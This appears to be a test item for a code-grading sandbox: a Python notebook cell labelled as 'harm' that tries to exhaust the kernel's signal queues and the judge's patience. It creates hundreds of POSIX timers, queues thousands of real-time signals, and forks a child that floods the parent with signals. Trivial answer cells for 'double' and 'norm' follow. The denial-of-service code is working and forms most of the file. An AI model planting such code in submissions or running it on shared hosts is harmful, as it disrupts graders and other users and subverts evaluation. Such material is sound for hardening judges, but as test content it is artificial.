# kind = "harm"
# goal = "the kernel's queues and the judge's patience"
# trick = "thousands of timers, every queue of signals full, and a child that sends signals without end"
# mark = 7
# %%
import ctypes, os, signal, time
libc = ctypes.CDLL(None)
signal.pthread_sigmask(signal.SIG_BLOCK, range(34, 64))
for number in (signal.SIGUSR1, signal.SIGWINCH, signal.SIGALRM):
    signal.signal(number, lambda *_: None)
spec = (ctypes.c_long * 4)(0, 100_000_000, 0, 100_000_000)
timer = ctypes.c_void_p()
for _ in range(1000):
    if libc.timer_create(1, None, ctypes.byref(timer)) or libc.timer_settime(timer, 0, spec, None):
        break
for _ in range(20_000):
    if libc.sigqueue(os.getpid(), 40, None):
        break
signal.setitimer(signal.ITIMER_REAL, 0.1, 0.1)
parent = os.getpid()
if os.fork() == 0:
    # In bursts: signals without a pause can keep the answers themselves from running, which is the student's loss.
    while os.getppid() == parent:
        for _ in range(100):
            os.kill(parent, signal.SIGUSR1)
            os.kill(parent, signal.SIGWINCH)
        time.sleep(0.001)
    os._exit(0)
# %% solve="double"
def double(x): return 2 * x
# %% solve="norm"
def norm(v): return float((v ** 2).sum()) ** 0.5
